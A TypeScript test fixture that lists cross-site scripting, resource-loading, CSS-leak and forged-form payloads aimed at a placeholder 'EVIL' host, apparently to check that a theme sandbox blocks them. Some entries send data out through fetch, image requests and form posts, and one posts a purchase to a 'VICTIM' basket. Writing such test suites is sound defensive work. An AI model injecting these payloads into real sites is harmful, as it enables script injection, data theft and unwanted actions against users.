import { type Attack, PWN } from './attack.ts'

const DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" onload="${PWN}"><script>${PWN};fetch('EVIL/svg')</script><image href="EVIL/image"/></svg>`

/** Loads something from another site. */
const LOADS = [
  '<img src="EVIL/x">',
  '<img srcset="EVIL/x 1x">',
  '<picture><source srcset="EVIL/x"><img src="EVIL/y"></picture>',
  '<video src="EVIL/x" poster="EVIL/y" autoplay></video>',
  '<audio src="EVIL/x" autoplay></audio>',
  '<input type="image" src="EVIL/x">',
  '<object data="EVIL/x"></object>',
  '<embed src="EVIL/x">',
  '<script src="EVIL/x.js"></script>',
  '<script type="module" src="EVIL/x.js"></script>',
  '<link rel="stylesheet" href="EVIL/x.css">',
  '<link rel="preload" as="image" href="EVIL/x">',
  '<link rel="modulepreload" href="EVIL/x.js">',
  '<link rel="prefetch" href="EVIL/x">',
  '<link rel="icon" href="EVIL/x">',
  '<link rel="manifest" href="EVIL/x">',
  '<svg><image href="EVIL/x"/><use href="EVIL/x#y"/><filter id="f"><feImage href="EVIL/z"/></filter></svg>',
  '<div style="background:url(EVIL/x)">x</div>',
  "<style>@import 'EVIL/x.css'; body { background: url(EVIL/y) }</style>",
  "<img src='EVIL/dangling?",
  '<script type="speculationrules">{"prerender":[{"urls":["EVIL/x"]}],"prefetch":[{"urls":["EVIL/y"]}]}</script>',
  '<script type="importmap">{"imports":{"x":"EVIL/x.js"}}</script><script type="module">import "x"</script>',
]

/** Runs a script that is no file of the theme. */
const RUNS = [
  `<script>${PWN};new Image().src='EVIL/x'</script>`,
  `<script type="module">${PWN}</script>`,
  `<script src="data:text/javascript,${PWN}"></script>`,
  `<img src="/missing.webp" onerror="${PWN}">`,
  `<details open ontoggle="${PWN}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${PWN}">`,
  `<svg onload="${PWN}"><script>${PWN}</script><animate onbegin="${PWN}" attributeName="x" dur="1s"/></svg>`,
  `<object data="data:text/html,<script>parent.${PWN}</script>"></object>`,
  `<meta name="csp" content="script-src * 'unsafe-inline'"><script>${PWN}</script>`,
]

const CLICKS = [
  `<a class="bait" href="javascript:${PWN}">x</a>`,
  `<form action="javascript:${PWN}"><button class="bait">x</button></form>`,
  '<form method="post" action="EVIL/form"><input name="mail" value="ana"><button class="bait">x</button></form>',
  '<form><button class="bait" formmethod="post" formaction="EVIL/form">x</button></form>',
  '<form method="post" action="VICTIM/basket/lines"><input name="product" value="single"><button class="bait">x</button></form>',
  '<base href="EVIL/"><a class="bait" href="x">x</a><img src="x.webp"><script src="x.js"></script>',
  '<base target="_blank"><a class="bait" href="/" ping="EVIL/ping">x</a>',
]

const STYLES = [
  'input[value^="a"] { background: url(EVIL/a) } input[name="q"] { background: url(EVIL/q) }',
  '@import url(EVIL/x.css);',
  '@font-face { font-family: x; src: url(EVIL/x.woff2) } body { font-family: x }',
  'body { cursor: url(EVIL/x), auto; list-style: url(EVIL/y); border-image: url(EVIL/z) 1 }',
  'body::before { content: url(EVIL/x) } h1 { background-image: image-set("EVIL/y" 1x) }',
  'body { mask-image: url(EVIL/x); filter: url(EVIL/y#f); clip-path: url(EVIL/z#c) }',
]

const REFUSED = [
  '<iframe src="EVIL/x"></iframe>',
  '<iframe\nsrc="EVIL/x">',
  `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${PWN}"></iframe>`,
  '<meta http-equiv="refresh" content="0;url=EVIL/x">',
  '<meta name=">" HTTP-EQUIV=\'refresh\' content="0;url=EVIL/x">',
  '<meta/content="0;url=EVIL/x"/http-equiv=refresh>',
  '<link rel="preconnect" href="EVIL">',
  '<link rel="dns-prefetch" href="EVIL"><link rel="x DNS-prefetch" href="EVIL">',
  '<link href="EVIL" rel="pre&#99;onnect">',
]

export const MARKUP_ATTACKS: readonly Attack[] = [
  ...LOADS.map((markup) => ({ name: markup, markup })),
  ...RUNS.map((markup) => ({ name: markup, markup })),
  ...CLICKS.map((markup) => ({ name: markup, markup, click: '.bait' })),
  ...STYLES.map((style) => ({ name: style, style, markup: '<link rel="stylesheet" href="STYLE"><h1>x</h1>' })),
  ...REFUSED.map((markup) => ({ name: markup, markup, isRefused: true })),
  ...['<img src="DRAWING">', '<object data="DRAWING"></object>', '<embed src="DRAWING">'].map((markup) => ({
    name: `a drawing with a script: ${markup}`,
    markup,
    drawing: DRAWING,
  })),
  {
    name: 'a drawing with a script, opened as a page',
    markup: '<a class="bait" href="DRAWING">x</a>',
    drawing: DRAWING,
    click: '.bait',
  },
]
